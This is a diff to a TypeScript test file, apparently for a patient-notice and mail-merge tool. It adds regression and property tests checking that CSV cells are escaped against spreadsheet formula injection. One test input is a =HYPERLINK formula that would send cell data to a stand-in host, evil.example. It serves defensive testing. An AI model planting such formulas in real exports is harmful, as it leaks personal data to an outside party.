@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { CATEGORY_TEXT, mailMergeCsv, patientNotice, type PatientNoticeInput } from './documents.js';
+import { CATEGORY_TEXT, csvCell, mailMergeCsv, patientNotice, type PatientNoticeInput } from './documents.js';
 import { CATEGORIES, touches, type Category } from './scope.js';
 
 const contact = { dpoName: 'Camille DPO', dpoEmail: 'dpo@example.test', operator: 'host' };
@@ -91,5 +91,22 @@ describe('what an audit event disclosed', () => {
     expect(touches({ ...base, action: 'create', resource_type: 'DocumentReference', patient_id: 'a' })).toEqual([]);
     const all = touches({ ...base, action: 'everything', resource_type: 'Patient', patient_id: 'a', purpose: 'care', labels: ['PSY'], detail: { appointments: 2, notes: ['n1', 'n2'] } });
     expect(all[0]).toMatchObject({ categories: ['identity', 'contacts', 'nir', 'appointments', 'notes'], notes: ['n1', 'n2'], labels: ['PSY'] });
+  });
+});
+
+describe('the mail-merge list', () => {
+  it('escapes cells that a spreadsheet would run as formulas (OWASP CSV injection; regression: =HYPERLINK was written as is)', () => {
+    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"clic")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""clic"")"');
+    for (const bad of ['+33 1 23', '-1+1', '@SUM(A1)', '\tcmd', '\rcmd']) expect(csvCell(bad).startsWith('"\'')).toBe(true);
+    expect(csvCell('12 rue de la Paix')).toBe('12 rue de la Paix');
+    expect(csvCell('Jean, dit "Jeannot"')).toBe('"Jean, dit ""Jeannot"""');
+  });
+
+  it('never starts a cell with a formula character, whatever the address (property)', () => {
+    fc.assert(fc.property(fc.string(), (v) => {
+      const cell = csvCell(v);
+      const inner = cell.startsWith('"') ? cell.slice(1) : cell;
+      expect(/^[=+\-@\t\r]/.test(inner)).toBe(false);
+    }), { numRuns: 500 });
   });
 });
